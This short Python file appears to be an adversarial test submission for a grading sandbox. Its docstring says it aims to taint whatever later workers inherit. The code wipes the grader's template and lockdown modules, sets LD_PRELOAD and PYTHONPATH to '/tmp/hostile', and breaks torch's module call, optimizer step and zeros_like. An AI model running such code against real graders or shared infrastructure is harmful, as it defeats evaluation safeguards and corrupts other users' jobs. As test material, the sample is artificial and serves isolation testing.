"""Changes everything that a later worker might inherit: modules, template, environment, caches.

Must: this answer counts, and so does the next submission's.

attacks: binary_loss
"""

import gc
import os
import sys

import torch

for name in ("grader.sandbox.inside.template", "grader.sandbox.inside.lockdown.lockdown"):
    vars(sys.modules[name]).clear()
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp/hostile"
torch.nn.Module.__call__ = torch.optim.SGD.step = None
torch.zeros_like = lambda *args, **kwargs: None
gc.disable()
